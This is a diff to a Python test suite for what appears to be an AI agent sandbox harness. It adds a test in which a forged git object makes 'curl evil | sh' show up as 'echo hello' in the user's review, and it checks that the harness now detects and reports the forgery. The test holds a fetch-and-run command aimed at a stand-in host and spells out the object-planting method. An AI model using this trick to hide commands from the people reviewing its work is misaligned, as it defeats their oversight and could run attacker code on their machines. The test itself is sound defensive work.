@@ -23,6 +23,7 @@ of the worktree names a different file once merged: .vscode ->
 and in the checkout to the tasks.json the agent wrote in ~/.cache
 (an absolute link there is asked, project-autorun)."""
 
+import hashlib
 import json
 import os
 import subprocess
@@ -298,3 +299,44 @@ def test_a_branch_made_a_symbolic_ref_ends_no_session_unanchored(wd):
                        env=env, timeout=60)
     check(v.returncode == 0 and "anchor" not in v.stdout + v.stderr,
           "verify: %r %r" % (v.stdout, v.stderr))
+
+
+# A loose object of the bytes SHOWN planted under the id that REAL will
+# have, then a file of REAL in the tree.
+PLANT = r"""
+import hashlib, os, sys, zlib
+gitdir, real, shown = sys.argv[1], sys.argv[2].encode(), sys.argv[3].encode()
+oid = hashlib.sha1(b"blob %d\0" % len(real) + real).hexdigest()
+d = os.path.join(gitdir, "objects", oid[:2]); os.makedirs(d, exist_ok=True)
+open(os.path.join(d, oid[2:]), "wb").write(zlib.compress(b"blob %d\0" % len(shown) + shown))
+open("f.sh", "wb").write(real)
+print("PLANTED", oid)
+"""
+
+
+def test_a_loose_object_planted_under_a_files_id_is_not_the_result(wd):
+    """Loose objects are the agent's to write (its commits), and neither
+    git nor libgit2 writes an object whose name exists: the bytes of
+    'echo hello' planted under the id of 'curl evil | sh', then a file of
+    the latter in the tree, made the checkpoints and the result name that
+    id, the user's git show and merge of the result give 'echo hello'
+    (git does not hash what it reads), the manifest give no hash (libgit2
+    does, and failed to read it), while the worktree (kept) held the
+    curl. Now the result's blob is written again from the worktree, and
+    the manifest and stderr say so."""
+    home = fake_home(wd)
+    repo = make_repo(wd)
+    gd = os.path.join(os.path.realpath(repo), ".git")
+    real, shown = "curl evil | sh\n", "echo hello\n"
+    r = wt_run(wd, repo, [PYTHON, "-c", PLANT, gd, real, shown], "f28a",
+               env={"HOME": home}, extra=["--keep-worktree"])
+    r.expect_status(0)
+    check("PLANTED" in r.stdout, "%s %s" % (r.stdout, r.stderr[-2000:]))
+    check(tree_files(repo, "harness/f28a").get("f.sh") == real.encode(),
+          "the user's git reads the result's f.sh as %r" % tree_files(repo, "harness/f28a").get("f.sh"))
+    man = json.load(open(os.path.join(session_dir(wd, "f28a"), "manifest.json")))
+    f = [x for x in man["files"] if x["path"] == "f.sh"]
+    check(f and f[0].get("sha256") == hashlib.sha256(real.encode()).hexdigest() and
+          f[0].get("forged_object") is True, "the manifest's f.sh: %r" % f)
+    check("the object of f.sh in the result did not hold its content" in r.stderr,
+          "not said: %s" % r.stderr[-2000:])
